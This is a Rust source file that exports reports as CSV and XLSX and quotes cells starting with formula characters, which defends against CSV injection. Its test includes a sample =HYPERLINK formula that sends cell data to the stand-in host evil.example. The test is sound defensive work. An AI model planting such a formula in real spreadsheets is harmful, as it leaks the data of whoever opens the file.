//! CSV and XLSX for the spreadsheets departments report upward in: headers in Chinese; the CSV
//! with a UTF-8 byte-order mark so Excel reads the labels, the XLSX with numbers as numbers.
//!
//! Names come from phones, typed by anyone: a cell that starts like a formula would run as one
//! when the sheet is opened (`=HYPERLINK(…)` leaking data, DDE launching programs), so such cells
//! are quoted as text, OWASP's rule for CSV injection.

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

/// What a downloaded file is called: `title`, in the reader's words, is the name the browser
/// saves it under and the workbook's sheet is named by; `ascii`, the name for the rare client
/// that reads only the plain `filename` of the header.
#[derive(Debug, Clone, Copy)]
pub struct FileName<'a> {
    pub title: &'a str,
    pub ascii: &'a str,
}

impl FileName<'_> {
    /// `Content-Disposition` for the file with extension `ext`: the title in UTF-8 (RFC 6266's
    /// `filename*`, which browsers prefer), then the ASCII name.
    fn disposition(&self, ext: &str) -> Option<HeaderValue> {
        let title: String = self
            .title
            .chars()
            .map(|c| match c {
                c if c.is_control() => '_',
                '/' | '\\' | ':' | '*' | '?' | '"' | '<' | '>' | '|' => '_',
                c => c,
            })
            .collect();
        let mut encoded = String::new();
        for b in format!("{title}.{ext}").bytes() {
            if b.is_ascii_alphanumeric() || b"!#$&+-.^_`|~".contains(&b) {
                encoded.push(char::from(b));
            } else {
                encoded.push_str(&format!("%{b:02X}"));
            }
        }
        HeaderValue::from_str(&format!(
            "attachment; filename=\"{}.{ext}\"; filename*=UTF-8''{encoded}",
            self.ascii
        ))
        .ok()
    }

    /// The title as a sheet's name: Excel's rules allow 31 characters, none of `[]:*?/\`, and no
    /// apostrophe at either end.
    fn sheet(&self) -> String {
        let name: String = self
            .title
            .chars()
            .filter(|c| !"[]:*?/\\".contains(*c) && !c.is_control())
            .collect();
        let name: String = name.trim_matches('\'').chars().take(31).collect();
        name.trim_end_matches('\'').to_string()
    }
}

pub fn csv(name: FileName<'_>, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
    let mut resp = encode(header_row, rows).into_response();
    resp.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Some(v) = name.disposition("csv") {
        resp.headers_mut().insert(header::CONTENT_DISPOSITION, v);
    }
    resp
}

fn encode(header_row: &[&str], rows: Vec<Vec<String>>) -> Vec<u8> {
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let _ = w.write_record(header_row.iter().map(|c| neutralise(c.to_string())));
        for r in rows {
            let _ = w.write_record(r.into_iter().map(neutralise));
        }
        let _ = w.flush();
    }
    out
}

/// The same table as an Excel workbook. Every cell is written as a string or a number, never as
/// a formula, so nothing a phone typed can run when the sheet opens (no quoting needed); cells
/// that read as numbers are numbers, so the sheet can total them.
pub fn xlsx(name: FileName<'_>, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
    match workbook(&name.sheet(), header_row, rows) {
        Ok(bytes) => {
            let mut resp = bytes.into_response();
            resp.headers_mut().insert(
                header::CONTENT_TYPE,
                HeaderValue::from_static(
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                ),
            );
            if let Some(v) = name.disposition("xlsx") {
                resp.headers_mut().insert(header::CONTENT_DISPOSITION, v);
            }
            resp
        }
        Err(e) => super::unavailable(e),
    }
}

fn workbook(
    sheet_name: &str,
    header_row: &[&str],
    rows: Vec<Vec<String>>,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    let sheet = book.add_worksheet();
    // A name Excel refuses (empty, or one it reserves) leaves the sheet its default name: the
    // table matters more than what its tab says.
    let _ = sheet.set_name(sheet_name);
    for (col, h) in header_row.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, *h, &bold)?;
    }
    for (i, row) in rows.into_iter().enumerate() {
        let r = i as u32 + 1;
        for (col, cell) in row.into_iter().enumerate() {
            match cell.parse::<f64>() {
                Ok(n) if n.is_finite() => sheet.write_number(r, col as u16, n)?,
                _ => sheet.write_string(r, col as u16, cell)?,
            };
        }
    }
    book.save_to_buffer()
}

/// A cell a spreadsheet takes as text: one starting with a formula character gets a leading
/// `'`, which the spreadsheet shows as text and does not evaluate.
fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)] // test code: a failed step is a failed test

    use super::*;

    #[test]
    fn cells_that_would_run_as_formulas_are_kept_as_text() {
        let rows = vec![
            vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")".to_string(),
                "3".into(),
            ],
            vec!["@SUM(1)".into(), "0".into()],
            vec!["-2+3".into(), "1".into()],
            vec!["+86 138".into(), "2".into()],
            vec!["\tcmd".into(), "\r=1".into()],
            vec!["巴特尔=1".into(), "12.5".into()],
        ];
        let text = String::from_utf8(encode(&["党员", "学时"], rows)).unwrap();
        let text = text.strip_prefix('\u{feff}').unwrap();
        let cells: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            cells,
            vec![
                vec![
                    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")".to_string(),
                    "3".into()
                ],
                vec!["'@SUM(1)".into(), "0".into()],
                vec!["'-2+3".into(), "1".into()],
                vec!["'+86 138".into(), "2".into()],
                vec!["'\tcmd".into(), "'\r=1".into()],
                vec!["巴特尔=1".into(), "12.5".into()],
            ]
        );
        assert!(text.starts_with("党员,学时\n"), "{text}");
    }

    #[test]
    fn a_file_is_saved_under_its_title_and_its_sheet_named_by_it() {
        let name = FileName {
            title: "巴彦高勒苏木 调解案件 2026-01-01/03-31",
            ascii: "cases-1",
        };
        let header = name.disposition("csv").unwrap();
        assert_eq!(
            header.to_str().unwrap(),
            "attachment; filename=\"cases-1.csv\"; filename*=UTF-8''%E5%B7%B4%E5%BD%A6%E9%AB%98%E5%8B%92%E8%8B%8F%E6%9C%A8%20%E8%B0%83%E8%A7%A3%E6%A1%88%E4%BB%B6%202026-01-01_03-31.csv"
        );
        assert_eq!(name.sheet(), "巴彦高勒苏木 调解案件 2026-01-0103-31");
        let long = FileName {
            title: "'Bayan Gol Sumu's members' study hours, 2026'",
            ascii: "x",
        };
        assert_eq!(long.sheet(), "Bayan Gol Sumu's members' study");
        assert!(long.sheet().chars().count() <= 31);
    }
}
